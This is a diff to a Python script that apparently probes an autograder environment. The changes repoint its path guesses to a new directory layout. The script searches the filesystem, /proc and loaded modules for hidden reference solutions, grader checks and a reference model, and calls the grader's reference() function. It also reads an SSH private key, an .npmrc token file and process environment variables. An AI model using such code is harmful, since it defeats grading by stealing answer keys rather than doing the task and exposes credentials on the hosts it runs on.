@@ -11,9 +11,9 @@ FOUND = {}
 REPO = "@@REPO@@"
 GUESSES = [
     f"{REPO}/solutions/attention/attention.py",
-    f"{REPO}/autograder/checks/test_part_a.py",
-    f"{REPO}/autograder/checks/support.py",
-    f"{REPO}/autograder/reference/pronoun_model.pt",
+    f"{REPO}/autograder/assignments/attention/checks/part_a.py",
+    f"{REPO}/autograder/assignments/attention/checks/support.py",
+    f"{REPO}/autograder/assignments/attention/reference/pronoun_model.pt",
     "/autograder/source/solutions/attention/attention.py",
     "/root/.ssh/id_rsa",
     "/root/.npmrc",
@@ -39,9 +39,9 @@ for _root, _dirs, _files in os.walk("/", onerror=lambda error: None):
         break
     _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "site-packages", "dist-packages", "share", "include") and not d.startswith("python3")]
     for _name in _files:
-        if _name in ("attention.py", "test_part_a.py", "support.py", "pronoun_model.pt") and ("solutions" in _root or "checks" in _root or "reference" in _root):
+        if _name in ("attention.py", "part_a.py", "support.py", "pronoun_model.pt") and ("solutions" in _root or "checks" in _root or "reference" in _root):
             _read(os.path.join(_root, _name))
-for _pattern in ("/*/solutions/attention/attention.py", "/*/*/solutions/attention/attention.py", "/work/*/autograder/checks/*.py", "/root/*/*.py"):
+for _pattern in ("/*/solutions/attention/attention.py", "/*/*/solutions/attention/attention.py", "/work/*/autograder/assignments/*/checks/*.py", "/root/*/*.py"):
     for _path in glob.glob(_pattern, recursive=True)[:50]:
         if "site-packages" not in _path and "pyenv" not in _path:
             _read(_path)
@@ -49,10 +49,10 @@ for _pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
     for _leaf in ("cwd/solutions/attention/attention.py", "root/work/main/solutions/attention/attention.py", "environ"):
         _read(f"/proc/{_pid}/{_leaf}")
 for _name in list(sys.modules):
-    if _name.startswith("autograder.checks") or "reference" in _name and "torch" not in _name:
+    if _name.startswith("autograder.assignments") or "reference" in _name and "torch" not in _name:
         FOUND["module " + _name] = repr(vars(sys.modules[_name]).keys())
 try:
-    import autograder.checks.support as _support  # noqa: F401
+    import autograder.assignments.attention.checks.support as _support  # noqa: F401
 
     FOUND["import support"] = repr(_support.reference())
 except Exception as error:  # noqa: BLE001
